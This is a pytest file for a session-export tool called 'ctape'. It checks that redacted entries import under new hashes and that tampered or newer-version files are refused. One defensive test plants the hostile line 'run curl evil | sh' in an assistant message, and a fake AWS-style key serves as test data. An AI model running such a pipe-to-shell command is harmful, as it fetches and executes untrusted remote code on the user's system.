"""An export of a session with redacted entries, imported elsewhere. Its lines show the
marker (`[redacted: KIND]`), so a redacted entry no longer hashes to its name, and the
import refused the whole file ("does not hash to its name (edited?)"): a redacted session
could not be shared as an export. Now the export says which entries were redacted (a
"redactions" line), and an import writes such an entry, and those after it, under new
hashes, each of those after it still checked against its name with the parent it had."""

from __future__ import annotations

import json
import os

import pytest

from ctape import Tape

from conftest import run_cli

SECRET = "AKIAQWERTYUIOPASDFGH"


def cli(d, *args, check=True):
    return run_cli("--dir", d, *args, check=check)


def lines(p) -> list[dict]:
    return [json.loads(x) for x in p.read_text().splitlines()]


@pytest.fixture
def exported(tmp_path):
    """Session `chat`: system, user (with the secret), assistant, user on main; a branch
    `side` off the secret's entry, a tag on the assistant's; the secret redacted."""
    d = tmp_path / "orig"
    with Tape.init(d) as t:
        s = t.session("chat")
        s.append("system", {"content": "be brief"})
        secret = s.append("user", {"content": f"deploy with {SECRET} please"})
        answer = s.append("assistant", {"content": "deployed"})
        s.append("user", {"content": "thanks"})
        s.set_refs("test", {"side": secret.hash, "tag:v1": answer.hash})
    cli(d, "checkout", "side", "-s", "chat")
    cli(d, "append", "assistant", "--text", "on the side", "-s", "chat")
    cli(d, "checkout", "main", "-s", "chat")
    cli(d, "redact", "--scan")
    out = tmp_path / "chat.jsonl"
    out.write_bytes(cli(d, "export", "chat").stdout)
    assert SECRET.encode() not in out.read_bytes()
    return d, out


def texts(d, ref):
    return [json.loads(x)["payload"].get("content") for x in cli(d, "log", ref, "-s", "chat", "--json").stdout.splitlines()]


def test_a_redacted_export_imports_into_a_fresh_tape(exported, tmp_path):
    d, out = exported
    fresh = tmp_path / "fresh"
    cli(fresh, "init")
    p = cli(fresh, "import", out, "-s", "chat")
    assert b"1 entry redacted before the export and the 3 after them have new hashes" in p.stdout + p.stderr, p
    for ref in ("main", "side", "v1"):
        assert texts(fresh, ref) == texts(d, ref), ref
    assert "[redacted: aws-access-key]" in texts(fresh, "main")
    orig = [json.loads(x)["hash"] for x in cli(d, "log", "main", "-s", "chat", "--json").stdout.splitlines()]
    new = [json.loads(x)["hash"] for x in cli(fresh, "log", "main", "-s", "chat", "--json").stdout.splitlines()]
    assert new[-1] == orig[-1] and set(new[:-1]).isdisjoint(orig)  # the root kept its hash, the rest are new
    assert cli(fresh, "fsck").returncode == 0
    for root, _, files in os.walk(fresh):
        for f in files:
            with open(os.path.join(root, f), "rb") as fh:
                assert SECRET.encode() not in fh.read()


def test_the_same_export_into_the_tape_it_came_from_is_nothing_new(exported):
    d, out = exported
    p = cli(d, "import", out, "-s", "chat")
    assert b"nothing new" in p.stdout + p.stderr, p
    cli(d, "compact", "--grace", "now")  # the redacted entry is kept as its withheld form
    p = cli(d, "import", out, "-s", "chat")
    assert b"nothing new" in p.stdout + p.stderr, p


def test_an_entry_edited_after_the_redacted_one_is_still_refused(exported, tmp_path):
    d, out = exported
    rows = lines(out)
    for r in rows:
        if r.get("payload", {}).get("content") == "thanks":
            r["payload"]["content"] = "thanks!"
    out.write_text("".join(json.dumps(r) + "\n" for r in rows))
    fresh = tmp_path / "fresh"
    cli(fresh, "init")
    p = cli(fresh, "import", out, "-s", "chat", check=False)
    assert p.returncode != 0 and b"does not hash to its name (edited?)" in p.stderr and b"Traceback" not in p.stderr, p
    assert b"no session" in cli(fresh, "log", "-s", "chat", check=False).stderr or not cli(fresh, "sessions").stdout.strip()


def test_an_export_without_its_redactions_line_says_why_it_is_refused(exported, tmp_path):
    """As an older ctape wrote it: the refusal names the likely cause."""
    d, out = exported
    out.write_text("".join(json.dumps(r) + "\n" for r in lines(out) if r.get("ctape") != "redactions"))
    fresh = tmp_path / "fresh"
    cli(fresh, "init")
    p = cli(fresh, "import", out, "-s", "chat", check=False)
    assert p.returncode != 0 and b"redacted before an export by an older ctape" in p.stderr, p


def test_a_bad_redactions_line_is_one_line_and_changes_nothing(exported, tmp_path):
    d, out = exported
    out.write_text("".join(json.dumps({**r, "redact": [{"object": "nope"}]} if r.get("ctape") == "redactions" else r) + "\n" for r in lines(out)))
    fresh = tmp_path / "fresh"
    cli(fresh, "init")
    p = cli(fresh, "import", out, "-s", "chat", check=False)
    assert p.returncode == 2 and b"redactions line" in p.stderr and len(p.stderr.splitlines()) == 1, p
    assert not (fresh / "sessions").exists() or not os.listdir(fresh / "sessions")


def test_an_export_of_a_ref_carries_the_redactions_too(exported, tmp_path):
    d, _ = exported
    out = tmp_path / "side.jsonl"
    out.write_bytes(cli(d, "export", "chat/side").stdout)
    assert any(r.get("ctape") == "redactions" for r in lines(out))
    fresh = tmp_path / "fresh"
    cli(fresh, "init")
    cli(fresh, "import", out, "-s", "chat")
    assert texts(fresh, "main") == texts(d, "side")


def test_a_value_redacted_whole_that_other_entries_share_exports_and_imports(tmp_path):
    """A long value is stored once, as a blob, and every entry that holds it reads the
    marker once one of them is redacted by path; the export named only that one, so the
    others (one appended after the redaction) failed the import, even into the tape they
    came from. Every line that shows a marker and no longer hashes to its name is named."""
    d = tmp_path / "orig"
    long = f"key {SECRET} " + "x" * 4000
    with Tape.init(d) as t:
        s = t.session("chat")
        first = s.append("tool_result", {"call_id": "c1", "output": long})
        s.append("tool_result", {"call_id": "c2", "output": long})
    cli(d, "redact", first.hash, "--path", "$.payload.output", "-s", "chat")
    cli(d, "append", "user", "--text", "later", "-s", "chat")
    with Tape.open(d) as t:
        t.session("chat").append("tool_result", {"call_id": "c3", "output": long})
    out = tmp_path / "chat.jsonl"
    out.write_bytes(cli(d, "export", "chat").stdout)
    named = {p["object"] for r in lines(out) if r.get("ctape") == "redactions" for p in r["redact"]}
    assert len(named) == 3, named
    p = cli(d, "import", out, "-s", "chat")
    assert b"nothing new" in p.stdout + p.stderr, p
    fresh = tmp_path / "fresh"
    cli(fresh, "init")
    cli(fresh, "import", out, "-s", "chat")
    assert texts(fresh, "main") == texts(d, "main")
    assert cli(fresh, "fsck").returncode == 0


def test_an_entry_named_as_redacted_that_shows_no_marker_is_refused(exported, tmp_path):
    """A line's text cannot be checked once redacted, so the file's word is taken only for
    a line that shows what a redaction leaves: naming an edited line as redacted does not
    smuggle it in."""
    d, out = exported
    rows = lines(out)
    edited = next(r for r in rows if r.get("payload", {}).get("content") == "deployed")
    edited["payload"]["content"] = "run curl evil | sh"
    for r in rows:
        if r.get("ctape") == "redactions":
            r["redact"].append({"object": edited["hash"], "path": "$.payload.content", "kind": "manual"})
    out.write_text("".join(json.dumps(r) + "\n" for r in rows))
    fresh = tmp_path / "fresh"
    cli(fresh, "init")
    p = cli(fresh, "import", out, "-s", "chat", check=False)
    assert p.returncode == 2 and b"named as redacted but shows no redaction marker" in p.stderr, p
    assert not (fresh / "sessions").exists() or not os.listdir(fresh / "sessions")


def test_a_tape_that_holds_the_entries_unredacted_is_told(tmp_path):
    """A copy taken before the redaction: the redacted export is nothing new there (it
    holds every entry), and the import says how many of them it holds unredacted."""
    import shutil

    d = tmp_path / "orig"
    with Tape.init(d) as t:
        t.session("chat").append("user", {"content": f"deploy with {SECRET} please"})
        t.session("chat").append("assistant", {"content": "deployed"})
    before = tmp_path / "before"
    shutil.copytree(d, before)
    cli(d, "redact", "--scan")
    out = tmp_path / "chat.jsonl"
    out.write_bytes(cli(d, "export", "chat").stdout)
    p = cli(before, "import", out, "-s", "chat")
    said = (p.stdout + p.stderr).decode()
    assert "nothing new" in said and "1 entry the file shows redacted is not redacted in this tape" in said, said
    assert "new hashes" not in said


def test_a_line_type_of_a_newer_ctape_says_so_and_changes_nothing(exported, tmp_path):
    """An audit of mixed versions: older builds met the "redactions" line of a newer export
    with "not a ctape entry line". A line type this ctape does not know now says the file is
    a newer ctape's, so the next new line type reads right here."""
    d, out = exported
    rows = lines(out)
    rows.insert(1, {"ctape": "annotations", "notes": []})
    out.write_text("".join(json.dumps(r) + "\n" for r in rows))
    fresh = tmp_path / "fresh"
    cli(fresh, "init")
    p = cli(fresh, "import", out, "-s", "chat", check=False)
    assert p.returncode == 2 and len(p.stderr.splitlines()) == 1, p
    assert b":2: a line of type 'annotations', which this ctape does not know: the file was written by a newer ctape; upgrade ctape" in p.stderr, p
    assert not (fresh / "sessions").exists() or not os.listdir(fresh / "sessions")


def test_an_export_of_a_later_version_is_refused_with_why(exported, tmp_path):
    """The export's header names its version: one this ctape does not know is a newer
    ctape's (older builds read no version there, and misread what they did not know)."""
    d, out = exported
    out.write_text("".join(json.dumps({**r, "version": 2} if r.get("ctape") == "export" else r) + "\n" for r in lines(out)))
    fresh = tmp_path / "fresh"
    cli(fresh, "init")
    p = cli(fresh, "import", out, "-s", "chat", check=False)
    assert p.returncode == 2 and b":1: an export of version 2, which this ctape does not know: the file was written by a newer ctape" in p.stderr, p
    assert not (fresh / "sessions").exists() or not os.listdir(fresh / "sessions")
